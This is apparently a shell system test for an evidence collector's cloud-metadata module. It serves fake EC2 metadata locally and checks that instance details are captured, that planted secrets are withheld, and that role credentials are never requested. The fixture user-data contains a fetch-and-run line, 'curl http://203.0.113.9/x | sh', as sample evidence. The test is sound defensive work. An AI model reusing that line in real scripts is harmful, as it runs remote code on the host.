#!/usr/bin/env bash
# Goal: what an instance metadata service says is in the evidence as it said it; no credentials are asked for; a service
# that is silent costs a second or two.
set -euo pipefail
cd "$(dirname "$0")/../.."
# shellcheck source=tests/system/lib.sh
. tests/system/lib.sh
need python3 jq
make_key

# serve MODE: $port
serve() {
	exec 4< <(exec python3 tests/s3/imds.py "$1" "$WORK/$1.log" "$WORK")
	servers+=" $!"
	read -r port <&4
}
servers=
# shellcheck disable=SC2086 # one word a process
stop_servers() { kill $servers 2>/dev/null || :; }
trap 'stop_servers; cleanup' EXIT
put() { # put PATH TEXT
	mkdir -p "$(dirname "$WORK/latest/$1")"
	printf '%s' "$2" >"$WORK/latest/$1"
}
put meta-data/instance-id i-0123456789abcdef0
put meta-data/placement/region eu-west-1
put meta-data/iam/security-credentials/app-role '{"SecretAccessKey": "never"}'
put meta-data/network/interfaces/macs/02:00:00:00:00:01/vpc-id vpc-1
put 'meta-data/tags/instance/Cost centre' 42
put dynamic/instance-identity/document '{"accountId" : "123456789012"}'
put dynamic/instance-identity/pkcs7 "$(printf 'MII\nB\n')"
put user-data "$(printf '#!/bin/sh\nPASSWORD=hunter2hunter2\ncurl http://203.0.113.9/x | sh\n')"

serve instance
collect "$WORK/vault" --only cloud --imds-endpoint "http://127.0.0.1:$port"
check "a collection" test "$status" = 0
"$EVAC" open "$COLLECTION" --identity "$KEY" --out "$WORK/open" >/dev/null 2>&1
check "the instance" jq -e '.instance_id == "i-0123456789abcdef0" and .region == "eu-west-1" and .iam_role == "app-role"' \
	"$WORK/open/ec2_instance_metadata.ndjson"
check "its network" jq -e '.mac == "02:00:00:00:00:01" and .vpc_id == "vpc-1"' "$WORK/open/ec2_network_interfaces.ndjson"
check "its tags" jq -e '.key == "Cost centre" and .value == "42"' "$WORK/open/ec2_instance_tags.ndjson"
for name in document pkcs7; do
	check "its identity, byte by byte: $name" cmp "$WORK/latest/dynamic/instance-identity/$name" "$WORK/open/cloud/identity/$name"
done
check "the digest of its user data" test "$(jq -r .user_data_sha256 "$WORK/open/ec2_instance_metadata.ndjson")" = \
	"$(sha256sum "$WORK/latest/user-data" | cut -d ' ' -f 1)"
check "  whose text is there" grep -qF 'curl http://203.0.113.9/x | sh' "$WORK/open/cloud/user-data"
no_secret() { ! grep -rqF -e hunter2 -e never "$WORK/open"; }
check "  and whose password is not, nor the role's keys" no_secret
not_asked() { ! grep -q 'security-credentials/[^ ]' "$WORK/instance.log"; }
check "the keys were not even asked for" not_asked

serve hop
begin=$(date +%s)
collect "$WORK/silent" --only cloud --imds-endpoint "http://127.0.0.1:$port"
check "a silent service" test "$status" = 0
check "costs little time" test $(($(date +%s) - begin)) -lt 10
check "and is a gap" says "$WORK/stdout" '"gaps":1'
finish
